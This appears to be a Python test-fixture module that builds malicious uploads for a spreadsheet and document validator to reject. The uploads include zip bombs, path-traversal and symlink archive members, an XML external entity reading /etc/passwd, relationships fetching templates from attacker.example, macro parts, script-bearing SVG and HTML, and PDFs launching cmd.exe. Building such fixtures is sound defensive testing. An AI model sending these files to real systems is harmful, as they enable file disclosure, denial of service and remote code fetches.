"""Files that nobody should take: what somebody would send to break, fill, mislead or run."""

import io
import stat
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable

from tests.factories import evidence as make

TYPES = make.CONTENT_TYPES
EXTERNAL = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/%s" Target="http://attacker.example/x" TargetMode="External"/></Relationships>'
)
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>'
)
OUTSIDE_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
)
MACRO_TYPES = (
    b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
)
SHEET = (
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">%s<sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>Ma</t></is></c></row></sheetData></worksheet>'
)


def _with(content: bytes, changes: dict[str, bytes]) -> bytes:
    """The archive with members replaced or added."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w") as new:
        for info in old.infolist():
            if info.filename not in changes:
                new.writestr(info, old.read(info))
        for name, body in changes.items():
            new.writestr(zipfile.ZipInfo(name), body, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def _marked(content: bytes, **fields: int) -> bytes:
    """A zip whose directory says otherwise: ``flag``, ``size``, ``method`` of every member."""
    data = bytearray(content)
    place = data.find(b"PK\x01\x02")
    while place >= 0:
        if "flag" in fields:
            struct.pack_into("<H", data, place + 8, fields["flag"])
        if "method" in fields:
            struct.pack_into("<H", data, place + 10, fields["method"])
        if "size" in fields:
            struct.pack_into("<I", data, place + 24, fields["size"])
        place = data.find(b"PK\x01\x02", place + 4)
    return bytes(data)


def _named(name: str, *, link: bool = False) -> bytes:
    info = zipfile.ZipInfo(name)
    if link:
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
    made = io.BytesIO(make.xlsx())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # that a name is there already is the point
        with zipfile.ZipFile(made, "a") as archive:
            archive.writestr(info, b"/etc/passwd")
    return made.getvalue()


def _overlapping(count: int = 2000) -> bytes:
    """Members that all point at the same bytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(TYPES, b"<Types/>")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("a", b"\0" * 900_000)
    data = made.getvalue()
    start = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4) + 4)
    end = data.index(b"PK\x05\x06")
    entry, tail = data[start:end], bytearray(data[end:])
    more = b"".join(entry[:46] + f"{n:05}".encode()[-1:] + entry[47:] for n in range(count))
    directory = data[data.index(b"PK\x01\x02") : end] + more
    struct.pack_into("<HH", tail, 8, count + 3, count + 3)
    struct.pack_into("<I", tail, 12, len(directory))
    return data[: data.index(b"PK\x01\x02")] + directory + bytes(tail)


def _encrypted_office() -> bytes:
    """What Excel writes when a password is asked for: no zip at all."""
    words = "EncryptedPackage".encode("utf-16-le")
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000 + words + b"\0" * 1000


def _many(count: int) -> bytes:
    return _with(make.xlsx(), {f"xl/media/{n}.png": b"" for n in range(count)})


def _nested() -> bytes:
    inner = make.package({"a": b"\0" * 5_000_000})
    for _ in range(4):
        inner = make.package({"inner.zip": inner})
    return inner


def _sheet_with(part: bytes, before: bytes = b"") -> bytes:
    return _with(
        make.xlsx(), {"xl/worksheets/sheet1.xml": part, **({"x": before} if before else {})}
    )


def _far_cell(reference: bytes) -> bytes:
    body = SHEET.replace(b"A1", reference)
    return _sheet_with(body % b"")


ANY: dict[str, Callable[[], bytes]] = {
    "a zip bomb": lambda: make.package(
        {TYPES: b"<Types/>", "xl/workbook.xml": b"\0" * 200_000_000}
    ),
    "a bomb beside a sheet": lambda: _with(make.xlsx(), {"docProps/app.xml": b" " * 120_000_000}),
    "10,000 members": lambda: _many(10_000),
    "archives within archives": _nested,
    "members that share their bytes": _overlapping,
    "a directory that understates sizes": lambda: _marked(
        _with(make.xlsx(), {"big.xml": b"x" * 3_000_000}), size=10
    ),
    "a symbolic link": lambda: _named("xl/link", link=True),
    "a name that leads outside": lambda: _named("../../../../tmp/x"),
    "a name from the root": lambda: _named("/etc/cron.d/x"),
    "a name with a drive": lambda: _named("C:\\windows\\x.xml"),
    "two members of one name": lambda: _named("xl/workbook.xml"),
    "macros": lambda: _with(make.xlsx(), {"xl/vbaProject.bin": b"Attribute VB_Name"}),
    "macros under another name": lambda: _with(make.xlsx(), {TYPES: MACRO_TYPES}),
    "an old macro sheet": lambda: _with(make.xlsx(), {"xl/macrosheets/sheet1.xml": b"<x/>"}),
    "a program inside": lambda: _with(make.xlsx(), {"xl/embeddings/setup.exe": b"MZ"}),
    "an ActiveX control": lambda: _with(make.xlsx(), {"xl/activeX/activeX1.bin": b"x"}),
    "an object from outside": lambda: _with(
        make.xlsx(), {"xl/worksheets/_rels/sheet1.xml.rels": EXTERNAL % b"oleObject"}
    ),
    "a link to another workbook": lambda: _with(
        make.xlsx(),
        {"xl/externalLinks/_rels/externalLink1.xml.rels": EXTERNAL % b"externalLinkPath"},
    ),
    "a template from outside": lambda: _with(
        make.xlsx(), {"word/_rels/settings.xml.rels": EXTERNAL % b"attachedTemplate"}
    ),
    "entities that multiply": lambda: _with(make.xlsx(), {"xl/sharedStrings.xml": ENTITIES}),
    "an entity that reads a file": lambda: _with(make.xlsx(), {"xl/workbook.xml": OUTSIDE_ENTITY}),
    "encrypted members": lambda: _marked(make.xlsx(), flag=1),
    "a method that nobody knows": lambda: _marked(make.xlsx(), method=99),
    "a workbook with a password": _encrypted_office,
    "an old .xls renamed": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000,
    "a picture with script (SVG)": lambda: (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    ),
    "a page named as a PDF": lambda: b"<!DOCTYPE html><script>alert(1)</script>",
    "a script with a byte mark": lambda: b"\xef\xbb\xbf<script>alert(1)</script>",
    "an MHTML page": lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>",
    "a program for Windows": lambda: b"MZ\x90\x00" + b"\0" * 400,
    "a program for Linux": lambda: b"\x7fELF" + b"\0" * 400,
    "a shell script": lambda: b"#!/bin/sh\nid\n",
    "a rich text file": lambda: b"{\\rtf1 {\\object\\objdata}}",
    "a compressed archive": lambda: zlib.compress(b"x" * 1000),
    "a 7z archive": lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
    "a rar archive": lambda: b"Rar!\x1a\x07\x00" + b"\0" * 100,
    "a gif": lambda: b"GIF89a" + b"\0" * 40,
    "nothing but a start": lambda: b"PK\x03\x04",
    "an empty archive": lambda: b"PK\x05\x06" + b"\0" * 18,
    "cut off": lambda: make.xlsx()[:400],
    "bytes by chance": lambda: bytes((n * 7919) % 251 for n in range(5000)),
}
# Files that would do harm to a reader of sheets alone.
SHEETS: dict[str, Callable[[], bytes]] = {
    "one cell in the farthest corner": lambda: _far_cell(b"XFD1048576"),
    "a formula": lambda: _sheet_with(SHEET.replace(b"<is>", b"<f>1+1</f><is>") % b""),
    "a formula in a namespace": lambda: _sheet_with(
        b'<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<x:sheetData><x:row r='1'><x:c r='A1'><x:f>1+1</x:f></x:c></x:row></x:sheetData>"
        b"</x:worksheet>"
    ),
    "a cell that hides where it stands": lambda: _sheet_with(SHEET.replace(b'r="A1" ', b"") % b""),
    "a row count that lies": lambda: _sheet_with(SHEET % b'<dimension ref="A1:XFD1048576"/>'),
    "a document for words": make.docx,
    "a PDF": make.pdf,
}
# Pictures and papers that mislead whoever opens them.
PAPERS: dict[str, Callable[[], bytes]] = {
    "a PDF without an end": lambda: b"%PDF-1.7\n1 0 obj<<>>endobj",
    "a PDF that is an archive too": lambda: make.pdf() + make.package({"a.html": b"<script>"}),
    "a PDF that opens by script": lambda: make.pdf().replace(
        b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
    ),
    "a PDF that starts a program": lambda: make.pdf().replace(
        b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>"
    ),
    "a picture of a billion pixels": lambda: make.png(100_000, 100_000),
    "a picture that is an archive too": lambda: make.png() + make.package({"a.html": b"<script>"}),
    "a picture that goes on as a page": lambda: make.png() + b"<script>alert(1)</script>",
    "a JPEG cut off": lambda: make.jpeg()[:20],
    "half a HEIC": lambda: make.heic()[:16],
    "a text document with macros": lambda: make.odf("text", **{"Basic/Standard/x.xml": b"<x/>"}),
    "a letter with a template from outside": lambda: _with(
        make.docx(), {"word/_rels/settings.xml.rels": EXTERNAL % b"attachedTemplate"}
    ),
    "a letter with an entity": lambda: _with(make.docx(), {"word/comments.xml": OUTSIDE_ENTITY}),
}
